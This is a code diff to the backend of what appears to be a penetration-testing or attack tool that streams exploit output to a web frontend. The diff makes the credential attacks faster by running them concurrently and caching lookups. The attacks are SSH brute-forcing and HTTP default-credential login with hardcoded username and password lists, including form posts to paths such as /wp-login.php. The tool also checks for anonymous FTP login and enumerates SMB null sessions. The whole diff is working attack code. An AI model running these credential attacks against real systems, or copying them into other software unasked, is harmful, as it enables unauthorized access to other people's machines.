@@ -5,15 +5,49 @@ enabling real-time streaming of attack output to the frontend via SSE.
 """
 
 import asyncio
+import functools
+import ipaddress
 import logging
 import shutil
+import socket
+import time
 from datetime import datetime, timezone
 from typing import AsyncGenerator
 
+import orjson
+
 from backend.models.seek_enter import EnterEvent
+from backend.utils.ttl_cache import AsyncTTLCache
 
 logger = logging.getLogger(__name__)
 
+# SSH login attempts in flight at once; kept low so sshd's MaxStartups
+# throttling does not drop connections
+_SSH_CONCURRENCY = 4
+
+# Resolved target addresses, shared by every module run
+_ADDR_TTL = 300.0
+_addr_cache = AsyncTTLCache(maxsize=1024, ttl=_ADDR_TTL)
+
+# Credential pairs tried by the SSH and HTTP modules, and the HTTP login
+# paths posted to
+_SSH_CREDS: tuple[tuple[str, str], ...] = (
+    ("root", "root"), ("root", "toor"), ("root", "password"),
+    ("admin", "admin"), ("admin", "password"), ("admin", "123456"),
+    ("pi", "raspberry"), ("ubuntu", "ubuntu"), ("user", "user"),
+    ("root", ""), ("admin", ""),
+)
+_HTTP_CREDS: tuple[tuple[str, str], ...] = (
+    ("admin", "admin"), ("admin", "password"), ("admin", "123456"),
+    ("root", "root"), ("administrator", "administrator"),
+    ("admin", "admin123"), ("admin", ""), ("user", "user"),
+)
+_HTTP_LOGIN_PATHS = ("/", "/login", "/admin", "/admin/login", "/wp-login.php")
+_HTTP_SUCCESS_TOKENS = ("dashboard", "admin", "home", "panel")
+
+# HTTP login attempts in flight at once
+_HTTP_CONCURRENCY = 5
+
 # ---------------------------------------------------------------------------
 # Exploit registry
 # ---------------------------------------------------------------------------
@@ -57,8 +91,84 @@ EXPLOIT_REGISTRY: dict[str, dict] = {
 }
 
 
+@functools.lru_cache(maxsize=None)
+def _tool(name: str) -> str | None:
+    """Return the path of an external tool, searching PATH only once per name."""
+    return shutil.which(name)
+
+
+async def _resolve_all(host: str) -> tuple[str, ...]:
+    """Return the addresses for *host*, resolving each name at most once per TTL.
+
+    IP literals are returned as-is. Modules often run back to back against
+    the same target, so this saves a getaddrinfo executor round trip on
+    every connection after the first.
+    """
+    try:
+        ipaddress.ip_address(host)
+        return (host,)
+    except ValueError:
+        pass
+
+    async def _lookup() -> tuple[str, ...]:
+        infos = await asyncio.get_running_loop().getaddrinfo(host, None, type=socket.SOCK_STREAM)
+        return tuple(dict.fromkeys(info[4][0] for info in infos))
+
+    return await _addr_cache.get_or_compute(host, _lookup)
+
+
+async def _resolve(host: str) -> str:
+    """Return the preferred address for *host* (see :func:`_resolve_all`)."""
+    return (await _resolve_all(host))[0]
+
+
+def _tune_sock(writer: asyncio.StreamWriter) -> None:
+    """Turn off Nagle and delayed ACKs on the socket behind *writer*.
+
+    The probes write a handful of short commands and wait for each reply,
+    which is the pattern both features penalise. Failures are ignored.
+    """
+    sock = writer.get_extra_info("socket")
+    if sock is None:
+        return
+    try:
+        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        if hasattr(socket, "TCP_QUICKACK"):
+            sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_QUICKACK, 1)
+    except OSError:
+        pass
+
+
+async def _open_connection(host: str, port: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
+    """Open a tuned TCP connection to *host*, trying each cached address in turn."""
+    addresses = await _resolve_all(host)
+    for address in addresses[:-1]:
+        try:
+            reader, writer = await asyncio.open_connection(address, port)
+            break
+        except OSError:
+            continue
+    else:
+        reader, writer = await asyncio.open_connection(addresses[-1], port)
+    _tune_sock(writer)
+    return reader, writer
+
+
+# (epoch second, its ISO-8601 form) for the last event timestamp built
+_last_iso: tuple[int, str] = (-1, "")
+
+
 def _now_iso() -> str:
-    return datetime.now(timezone.utc).isoformat()
+    """Return the current UTC time as ISO-8601, to the second.
+
+    Events arrive in bursts, so the string is formatted once per second
+    and reused for every other event in that second.
+    """
+    global _last_iso
+    now = int(time.time())
+    if now != _last_iso[0]:
+        _last_iso = (now, datetime.fromtimestamp(now, timezone.utc).isoformat())
+    return _last_iso[1]
 
 
 def _event(event_type: str, message: str, module: str = "") -> EnterEvent:
@@ -70,6 +180,20 @@ def _event(event_type: str, message: str, module: str = "") -> EnterEvent:
     )
 
 
+def sse_frame(event: EnterEvent) -> bytes:
+    """Encode *event* as one SSE ``data:`` frame.
+
+    orjson writes the bytes directly from the event's fields, skipping
+    a model_dump() dict and a str round trip.
+    """
+    return b"data: %b\n\n" % orjson.dumps({
+        "event_type": event.event_type,
+        "timestamp": event.timestamp,
+        "message": event.message,
+        "module": event.module,
+    })
+
+
 def select_exploit(service: str, port: int, exploit_id: str = "auto") -> str:
     """Select the best exploit module for a given service/port."""
     if exploit_id != "auto":
@@ -130,12 +254,7 @@ async def _exploit_ssh_bruteforce(
 ) -> AsyncGenerator[EnterEvent, None]:
     """Brute force SSH credentials."""
     module = "ssh_bruteforce"
-    creds = [
-        ("root", "root"), ("root", "toor"), ("root", "password"),
-        ("admin", "admin"), ("admin", "password"), ("admin", "123456"),
-        ("pi", "raspberry"), ("ubuntu", "ubuntu"), ("user", "user"),
-        ("root", ""), ("admin", ""),
-    ]
+    creds = _SSH_CREDS
 
     yield _event("command", f"[>] Testing {len(creds)} credential pairs against SSH", module)
 
@@ -150,29 +269,52 @@ async def _exploit_ssh_bruteforce(
     success = False
 
     if ssh_available:
-        for username, password in creds:
-            display_pass = password if password else "(empty)"
-            yield _event("output", f"    Testing {username}:{display_pass} ...", module)
-            await asyncio.sleep(0.1)
-            try:
-                async with asyncssh.connect(
-                    target, port=port, username=username, password=password,
-                    known_hosts=None, login_timeout=5,
-                ) as conn:
-                    result = await conn.run("id", check=False, timeout=3)
-                    output = result.stdout.strip() if result.stdout else ""
+        # Attempts race a few at a time; "Testing" lines are queued as each
+        # one starts and flushed whenever an attempt finishes.
+        queue: asyncio.Queue[EnterEvent] = asyncio.Queue()
+        sem = asyncio.Semaphore(_SSH_CONCURRENCY)
+
+        async def _try_ssh(username: str, password: str) -> tuple[str, str, str] | None:
+            async with sem:
+                display_pass = password if password else "(empty)"
+                queue.put_nowait(_event("output", f"    Testing {username}:{display_pass} ...", module))
+                try:
+                    async with asyncssh.connect(
+                        host, port=port, username=username, password=password,
+                        known_hosts=None, login_timeout=5,
+                    ) as conn:
+                        result = await conn.run("id", check=False, timeout=3)
+                        output = result.stdout.strip() if result.stdout else ""
+                        return username, display_pass, output
+                except Exception:
+                    return None
+
+        try:
+            host = await _resolve(target)
+        except OSError:
+            host = target
+        tasks = [asyncio.create_task(_try_ssh(u, p)) for u, p in creds]
+        try:
+            for task in asyncio.as_completed(tasks):
+                hit = await task
+                while not queue.empty():
+                    yield queue.get_nowait()
+                if hit is not None:
+                    username, display_pass, output = hit
                     yield _event("success", f"[+] SUCCESS: {username}:{display_pass}", module)
                     yield _event("output", f"    Shell output: {output}", module)
                     access = "root" if "uid=0" in output else "user"
                     yield _event("success", f"[+] Access level: {access}", module)
                     success = True
                     break
-            except Exception:
-                continue
+        finally:
+            # Stop the remaining attempts once one succeeds (or the client leaves)
+            for task in tasks:
+                task.cancel()
     else:
         # Fallback: use subprocess ssh with sshpass (Linux) or plink (Windows)
-        sshpass_bin = shutil.which("sshpass")
-        plink_bin = shutil.which("plink")
+        sshpass_bin = _tool("sshpass")
+        plink_bin = _tool("plink")
 
         if sshpass_bin:
             yield _event("info", "[*] Using sshpass for credential testing", module)
@@ -229,7 +371,7 @@ async def _exploit_ssh_bruteforce(
             # Last resort: banner grab only
             try:
                 reader, writer = await asyncio.wait_for(
-                    asyncio.open_connection(target, port), timeout=3,
+                    _open_connection(target, port), timeout=3,
                 )
                 banner = await asyncio.wait_for(reader.readline(), timeout=3)
                 writer.close()
@@ -243,42 +385,53 @@ async def _exploit_ssh_bruteforce(
         yield _event("error", "[-] No valid credentials found", module)
 
 
+async def _read_ftp_reply(reader: asyncio.StreamReader) -> str:
+    """Read one complete FTP reply, joining multi-line ("230-...") replies."""
+    lines: list[str] = []
+    while True:
+        raw = await asyncio.wait_for(reader.readline(), timeout=5)
+        line = raw.decode(errors="replace").strip()
+        lines.append(line)
+        # The last line of a reply is "<code> <text>"; EOF also ends it
+        if not raw or (len(line) >= 4 and line[:3].isdigit() and line[3] == " ") or len(line) == 3:
+            return " ".join(lines)
+
+
 async def _exploit_ftp_anonymous(
     target: str, port: int, options: dict,
 ) -> AsyncGenerator[EnterEvent, None]:
-    """Check for anonymous FTP access."""
+    """Check for anonymous FTP access.
+
+    The login, PWD and QUIT commands are pipelined in one write after the
+    banner, then the replies are read back in order, so the check costs
+    one round trip instead of one per command.
+    """
     module = "ftp_anonymous"
     yield _event("command", "[>] Checking for anonymous FTP access", module)
 
     try:
         reader, writer = await asyncio.wait_for(
-            asyncio.open_connection(target, port), timeout=5,
+            _open_connection(target, port), timeout=5,
         )
-        banner = await asyncio.wait_for(reader.readline(), timeout=5)
-        yield _event("output", f"    Banner: {banner.decode(errors='replace').strip()}", module)
+        banner = await _read_ftp_reply(reader)
+        yield _event("output", f"    Banner: {banner}", module)
 
-        writer.write(b"USER anonymous\r\n")
+        writer.write(b"USER anonymous\r\nPASS anonymous@\r\nPWD\r\nQUIT\r\n")
         await writer.drain()
-        resp = await asyncio.wait_for(reader.readline(), timeout=5)
-        yield _event("output", f"    USER: {resp.decode(errors='replace').strip()}", module)
 
-        writer.write(b"PASS anonymous@\r\n")
-        await writer.drain()
-        resp = await asyncio.wait_for(reader.readline(), timeout=5)
-        resp_str = resp.decode(errors="replace").strip()
-        yield _event("output", f"    PASS: {resp_str}", module)
+        user_resp = await _read_ftp_reply(reader)
+        yield _event("output", f"    USER: {user_resp}", module)
+        pass_resp = await _read_ftp_reply(reader)
+        yield _event("output", f"    PASS: {pass_resp}", module)
 
-        if resp_str.startswith("230"):
+        # Servers that need no password accept at USER and reject the PASS
+        if pass_resp.startswith("230") or user_resp.startswith("230"):
             yield _event("success", "[+] Anonymous FTP login SUCCESSFUL", module)
-            writer.write(b"PWD\r\n")
-            await writer.drain()
-            pwd_resp = await asyncio.wait_for(reader.readline(), timeout=5)
-            yield _event("output", f"    PWD: {pwd_resp.decode(errors='replace').strip()}", module)
+            pwd_resp = await _read_ftp_reply(reader)
+            yield _event("output", f"    PWD: {pwd_resp}", module)
         else:
             yield _event("error", "[-] Anonymous login rejected", module)
 
-        writer.write(b"QUIT\r\n")
-        await writer.drain()
         writer.close()
         await writer.wait_closed()
 
@@ -298,46 +451,67 @@ async def _exploit_http_default_creds(
 
     yield _event("command", f"[>] Testing default credentials on {base_url}", module)
 
-    creds = [
-        ("admin", "admin"), ("admin", "password"), ("admin", "123456"),
-        ("root", "root"), ("administrator", "administrator"),
-        ("admin", "admin123"), ("admin", ""), ("user", "user"),
-    ]
-    login_paths = ["/", "/login", "/admin", "/admin/login", "/wp-login.php"]
+    creds = _HTTP_CREDS
+    login_paths = _HTTP_LOGIN_PATHS
 
     async with httpx.AsyncClient(verify=False, timeout=5.0, follow_redirects=False) as client:
-        yield _event("info", "[*] Phase 1: Testing HTTP Basic Auth", module)
-        for username, password in creds:
-            display_pass = password if password else "(empty)"
-            yield _event("output", f"    {username}:{display_pass} ...", module)
-            await asyncio.sleep(0.05)
-            try:
-                resp = await client.get(base_url, auth=(username, password))
-                if resp.status_code not in (401, 403):
-                    yield _event("success", f"[+] Basic Auth SUCCESS: {username}:{display_pass} (HTTP {resp.status_code})", module)
-                    return
-            except Exception:
-                continue
+        # Attempts in each phase race a few at a time; the rest are
+        # cancelled as soon as one succeeds
+        sem = asyncio.Semaphore(_HTTP_CONCURRENCY)
 
-        yield _event("info", "[*] Phase 2: Testing form-based login", module)
-        for path in login_paths:
-            url = f"{base_url}{path}"
-            for username, password in creds[:4]:
-                yield _event("output", f"    POST {path} {username}:{password} ...", module)
-                await asyncio.sleep(0.05)
+        async def _try_basic(username: str, password: str) -> tuple[str, str, int | None]:
+            async with sem:
+                try:
+                    resp = await client.get(base_url, auth=(username, password))
+                except Exception:
+                    return username, password, None
+            return username, password, resp.status_code
+
+        async def _try_form(path: str, username: str, password: str) -> tuple[str, str, str, str | None]:
+            async with sem:
                 try:
                     resp = await client.post(
-                        url,
+                        f"{base_url}{path}",
                         data={"username": username, "password": password,
                               "user": username, "pass": password},
                     )
-                    if resp.status_code in (302, 303):
-                        loc = resp.headers.get("location", "").lower()
-                        if any(kw in loc for kw in ("dashboard", "admin", "home", "panel")):
-                            yield _event("success", f"[+] Form login SUCCESS: {username}:{password} -> {loc}", module)
-                            return
                 except Exception:
-                    continue
+                    return path, username, password, None
+            if resp.status_code in (302, 303):
+                loc = resp.headers.get("location", "").lower()
+                if any(kw in loc for kw in _HTTP_SUCCESS_TOKENS):
+                    return path, username, password, loc
+            return path, username, password, None
+
+        yield _event("info", "[*] Phase 1: Testing HTTP Basic Auth", module)
+        tasks = [asyncio.create_task(_try_basic(u, p)) for u, p in creds]
+        try:
+            for task in asyncio.as_completed(tasks):
+                username, password, status = await task
+                display_pass = password if password else "(empty)"
+                yield _event("output", f"    {username}:{display_pass} ...", module)
+                if status is not None and status not in (401, 403):
+                    yield _event("success", f"[+] Basic Auth SUCCESS: {username}:{display_pass} (HTTP {status})", module)
+                    return
+        finally:
+            for task in tasks:
+                task.cancel()
+
+        yield _event("info", "[*] Phase 2: Testing form-based login", module)
+        tasks = [
+            asyncio.create_task(_try_form(path, u, p))
+            for path in login_paths for u, p in creds[:4]
+        ]
+        try:
+            for task in asyncio.as_completed(tasks):
+                path, username, password, loc = await task
+                yield _event("output", f"    POST {path} {username}:{password} ...", module)
+                if loc is not None:
+                    yield _event("success", f"[+] Form login SUCCESS: {username}:{password} -> {loc}", module)
+                    return
+        finally:
+            for task in tasks:
+                task.cancel()
 
     yield _event("error", "[-] No default credentials worked", module)
 
@@ -349,13 +523,13 @@ async def _exploit_smb_null_session(
     module = "smb_null_session"
     yield _event("command", f"[>] Testing SMB null session on {target}:{port}", module)
 
-    smb_client = shutil.which("smbclient")
+    smb_client = _tool("smbclient")
 
     if smb_client:
         yield _event("info", "[*] Using smbclient for SMB enumeration", module)
         try:
             proc = await asyncio.create_subprocess_exec(
-                "smbclient", "-L", f"//{target}", "-N", "-p", str(port),
+                smb_client, "-L", f"//{target}", "-N", "-p", str(port),
                 stdout=asyncio.subprocess.PIPE,
                 stderr=asyncio.subprocess.PIPE,
             )
@@ -375,7 +549,7 @@ async def _exploit_smb_null_session(
         yield _event("info", "[*] smbclient not available, basic port probe only", module)
         try:
             reader, writer = await asyncio.wait_for(
-                asyncio.open_connection(target, port), timeout=5,
+                _open_connection(target, port), timeout=5,
             )
             yield _event("output", f"    SMB port {port} is open", module)
             writer.close()
@@ -394,7 +568,7 @@ async def _exploit_banner_grab(
 
     try:
         reader, writer = await asyncio.wait_for(
-            asyncio.open_connection(target, port), timeout=5,
+            _open_connection(target, port), timeout=5,
         )
         try:
             banner = await asyncio.wait_for(reader.read(4096), timeout=3)